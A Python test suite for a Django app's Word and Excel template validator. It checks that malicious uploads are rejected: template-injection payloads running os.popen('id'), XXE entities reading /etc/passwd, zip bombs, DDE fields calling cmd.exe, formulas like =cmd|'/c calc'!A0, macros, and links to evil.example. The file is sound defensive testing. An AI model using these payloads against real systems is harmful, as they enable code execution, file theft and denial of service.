"""Files that mean harm: bombs, macros, links, objects, entities, and templates that try to run something."""

import io
import struct
import time
import zipfile
from typing import Any

import pytest
from django.utils import translation
from docx import Document

from bihuan.reports.documents import FaultyTemplate, check_template
from bihuan.reports.documents.package import LARGEST
from bihuan.reports.tests.making import altered, excel, filled, names, part, saved, texts, word

TYPES = "[Content_Types].xml"


def refused(template: bytes) -> str:
    with translation.override("en"), pytest.raises(FaultyTemplate) as caught:
        check_template(template, names())
    with translation.override("en"):
        assert len(caught.value.faults) == 1
        assert str(caught.value.faults[0].remedy)
        return str(caught.value)


def with_body(xml: str) -> bytes:
    template = word("x")
    body = part(template, "word/document.xml").replace(b"<w:sectPr", xml.encode() + b"<w:sectPr", 1)
    return altered(template, {"word/document.xml": body})


def with_relation(template: bytes, rels: str, kind: str, target: str, mode: str = "External") -> bytes:
    relation = (
        f'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="{target}"'
        + (f' TargetMode="{mode}"' if mode else "")
        + "/>"
    )
    content = part(template, rels).replace(b"</Relationships>", relation.encode() + b"</Relationships>")
    return altered(template, {rels: content})


@pytest.mark.parametrize(
    "payload",
    [
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{{ self.__init__ }}",
        "{{ 7*7 }}",
        "{{ config }}",
        "{{ 处数.__class__ }}",
        "{{ 处数.value.__class__ }}",
        "{{ 处数|attr('x') }}",
        "{{ 处数() }}",
        "{{ 受阻[0] }}",
        "{{ request.application.__globals__ }}",
        "{% set x = 1 %}",
        "{% include '/etc/passwd' %}",
        "{{#受阻}}{{__class__}}{{/受阻}}",
        "${7*7}{{= 1 }}",
        "<% x %>{{& 处数 }}",
        "{{> 处数 }}",
    ],
)
def test_a_template_runs_nothing(payload: str) -> None:
    for template in (word(payload), excel([[payload]])):
        with pytest.raises(FaultyTemplate):
            check_template(template, names())


def test_values_are_never_read_as_templates() -> None:
    from bihuan.ledgers.definition import Words
    from bihuan.reports.documents import Text
    from bihuan.reports.tests import samples

    evil = "{{人次}}{{#受阻}}{{/受阻}}<w:p/>&amp;{% x %}"
    summary = samples.summary(samples.garden(texts=(Text("next", Words("下一步"), evil),)))
    assert texts(filled(word("{{下一步}}", "{{处数}}"), summary))[:2] == [evil, "18"]


def test_no_file_of_ours() -> None:
    assert "no Word or Excel file" in refused(b"")
    assert "no Word or Excel file" in refused(b"%PDF-1.4")
    assert "damaged" in refused(b"PK\x03\x04" + b"x" * 99)
    assert "old kind" in refused(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600)
    assert "damaged" in refused(word("x")[:-200])
    empty = io.BytesIO()
    with zipfile.ZipFile(empty, "w") as archive:
        archive.writestr("a.txt", "x")
    assert "no Word or Excel file" in refused(empty.getvalue())
    types = part(word("x"), TYPES).replace(
        b"wordprocessingml.document.main", b"wordprocessingml.template.main"
    )
    assert "neither a Word document" in refused(altered(word("x"), {TYPES: types}))
    assert "larger than 10 MB" in refused(b"PK\x03\x04" + b"\0" * LARGEST)


def test_bombs() -> None:
    bomb = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(word("x"))) as source,
        zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive,
    ):
        for name in source.namelist():
            archive.writestr(name, source.read(name))
        archive.writestr("word/media/a.png", b"\0" * (90 << 20))
    began = time.monotonic()
    assert "unpacks to far more" in refused(bomb.getvalue())
    many = altered(word("x"), {f"word/media/{number}.png": b"x" for number in range(2_100)})
    assert "unpacks to far more" in refused(many)
    big = altered(word("x"), {"word/document.xml": b"<x>" + b" " * (17 << 20) + b"</x>"})
    assert "too large" in refused(big)
    assert time.monotonic() - began < 5


def test_a_size_that_lies() -> None:
    """The directory says that a part is small; its stream goes on. Reading stops where the directory says."""
    archive = bytearray(altered(word("x"), {"word/media/a.png": b"\0" * 100_000}))
    at = archive.rindex(b"word/media/a.png") - 46
    assert archive[at : at + 4] == b"PK\x01\x02"
    archive[at + 24 : at + 28] = struct.pack("<I", 10)
    with translation.override("en"), pytest.raises(FaultyTemplate) as caught:
        check_template(bytes(archive), names())
    assert "damaged" in str(caught.value.faults[0].problem)


def test_deep_and_long_xml() -> None:
    deep = "<w:p>" * 400 + "</w:p>" * 400
    assert "cannot be read" in refused(with_body(deep))
    entities = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><x>&b;</x>'
    assert "declares what no office program" in refused(altered(word("x"), {"word/document.xml": entities}))
    outside = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
    assert "declares what no office program" in refused(
        altered(word("x"), {"word/header1.xml": outside, "word/document.xml": outside})
    )
    began = time.monotonic()
    many = word(*["{{处书}}" * 50] * 40)
    with pytest.raises(FaultyTemplate):
        check_template(many, names())
    assert time.monotonic() - began < 20


def test_braces_without_end_take_no_time() -> None:
    began = time.monotonic()
    for text in (
        "{{" * 20_000,
        "}}" * 20_000,
        "{%" * 20_000,
        "{{ " + "a." * 20_000,
        "{{" + "#" * 30_000 + "}}",
    ):
        with pytest.raises(FaultyTemplate):
            check_template(word(text), names())
    assert time.monotonic() - began < 10


@pytest.mark.parametrize(
    ("name", "said"),
    [
        ("word/vbaProject.bin", "macros"),
        ("xl/macrosheets/sheet1.xml", "macros"),
        ("word/embeddings/oleObject1.bin", "embedded"),
        ("word/embeddings/Sheet.xlsx", "embedded"),
        ("word/activeX/activeX1.xml", "embedded"),
        ("xl/externalLinks/externalLink1.xml", "other files"),
        ("xl/connections.xml", "other files"),
        ("xl/queryTables/queryTable1.xml", "other files"),
        ("customUI/customUI.xml", "other files"),
        ("word/afchunk.html", "other files"),
        ("../../etc/passwd", "damaged"),
        ("/etc/passwd", "damaged"),
        ("word\\x.xml", "damaged"),
        ("WORD/DOCUMENT.XML", "damaged"),
    ],
)
def test_parts_that_do_not_belong(name: str, said: str) -> None:
    assert said in refused(altered(word("x"), {name: b"x"}))
    if name.startswith("xl/"):
        assert said in refused(altered(excel([["x"]]), {name: b"x"}))


def test_macros_by_type() -> None:
    types = part(word("x"), TYPES).replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    assert "macros" in refused(altered(word("x"), {TYPES: types}))


@pytest.mark.parametrize(
    ("kind", "target"),
    [
        ("image", "http://evil.example/x.png"),
        ("oleObject", "file:///c:/x"),
        ("frame", "http://evil.example/"),
        ("subDocument", "x.docx"),
        ("hyperlink", "javascript:alert(1)"),
        ("hyperlink", "file://evil/share"),
        ("hyperlink", "\\\\evil\\share"),
        ("externalLinkPath", "x.xlsx"),
    ],
)
def test_relations_to_the_outside(kind: str, target: str) -> None:
    said = refused(with_relation(word("x"), "word/_rels/document.xml.rels", kind, target))
    assert "outside the file" in said or "embedded" in said
    assert refused(with_relation(excel([["x"]]), "xl/_rels/workbook.xml.rels", kind, target))


def test_relations_that_stay_and_that_go() -> None:
    link = with_relation(word("{{处数}}"), "word/_rels/document.xml.rels", "hyperlink", "https://www.gov.cn/")
    assert texts(filled(link))[0] == "18"
    rels = b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
    settings = part(word("x"), "word/settings.xml").replace(
        b"<w:zoom",
        b'<w:attachedTemplate xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId99"/><w:zoom',
        1,
    )
    template = altered(
        word("{{处数}}"), {"word/settings.xml": settings, "word/_rels/settings.xml.rels": rels}
    )
    template = with_relation(
        template, "word/_rels/settings.xml.rels", "attachedTemplate", "http://evil.example/x.dotm"
    )
    done = filled(template)
    assert b"evil" not in part(done, "word/_rels/settings.xml.rels")
    assert b"attachedTemplate" not in part(done, "word/settings.xml")
    assert texts(done)[0] == "18"


@pytest.mark.parametrize("code", ["DDEAUTO c:\\\\windows\\\\cmd.exe", "INCLUDEPICTURE \"http://x/y.png\"", "includetext x", "MACROBUTTON x y"])  # fmt: skip
def test_fields_that_fetch(code: str) -> None:
    halves = "".join(f"<w:r><w:instrText>{half}</w:instrText></w:r>" for half in (code[:2], code[2:]))
    assert "fetches something" in refused(with_body(f"<w:p>{halves}</w:p>"))
    whole = code.replace('"', "&quot;")
    assert "fetches something" in refused(with_body(f'<w:p><w:fldSimple w:instr="{whole}"/></w:p>'))


def test_page_numbers_are_fields_too() -> None:
    assert filled(with_body('<w:p><w:fldSimple w:instr=" PAGE \\* MERGEFORMAT "/></w:p>'))


@pytest.mark.parametrize(
    "formula",
    ['=WEBSERVICE("http://x")', "=[1]Sheet1!A1", "='C:\\[x.xlsx]S'!A1", "=cmd|'/c calc'!A0", '=_xlfn.IMAGE("http://x")', "=RTD(1)", "=CALL(1)"],
)  # fmt: skip
def test_formulas_that_fetch(formula: str) -> None:
    assert "fetches something" in refused(excel([[formula]]))


def test_harmless_formulas_stay() -> None:
    assert filled(excel([['=SUM(A2:A3)&"[1] | WEBSERVICE("', "=Table1[[#This Row],[a]]", "=CALLS(1)"]]))


def test_names_that_start_something() -> None:
    def more(book: Any, _sheet: Any) -> None:
        book.define_name("Auto_Open", "=表!$A$1")

    assert "macros" in refused(excel([["x"]], more))


def test_controls_bound_to_data_do_not_take_the_old_text_back() -> None:
    bound = (
        '<w:sdt><w:sdtPr><w:dataBinding w:xpath="/x" w:storeItemID="{0}"/></w:sdtPr><w:sdtContent>'
        "<w:p><w:r><w:t>{{处数}}</w:t></w:r></w:p></w:sdtContent></w:sdt>"
    )
    done = part(filled(with_body(bound)), "word/document.xml")
    assert b"dataBinding" not in done
    assert b'<w:t xml:space="preserve">18</w:t>' in done


def test_what_was_tracked_as_deleted_is_no_placeholder() -> None:
    template = with_body("<w:p><w:del><w:r><w:delText>{{处书}}</w:delText></w:r></w:del><w:ins><w:r><w:t>{{处数}}</w:t></w:r></w:ins></w:p>")  # fmt: skip
    assert "18" in texts(filled(template))


def test_an_empty_document() -> None:
    assert texts(filled(saved(Document()))) == []


def test_what_repeats_too_often_ends() -> None:
    """Hundreds of rows that each repeat for each entry, with a list within each row of a list."""
    from bihuan.reports.tests import samples
    from bihuan.reports.tests.making import rows_of

    summary = samples.summary(samples.garden(tables=(samples.blocked(3_000),)))
    within = "{{受阻.名称}}{{#受阻}}{{名称}}{{/受阻}}"
    began = time.monotonic()
    found = rows_of(filled(excel([[within, "x"]] * 300), summary))
    assert "另有 2500 条未列出" in found[0][0]
    assert "另有 3000 条未列出" in str(found[-1][0])
    assert len(texts(filled(word(tables=[[[within, "x"]] * 300]), summary))) < 40_000
    assert time.monotonic() - began < 60
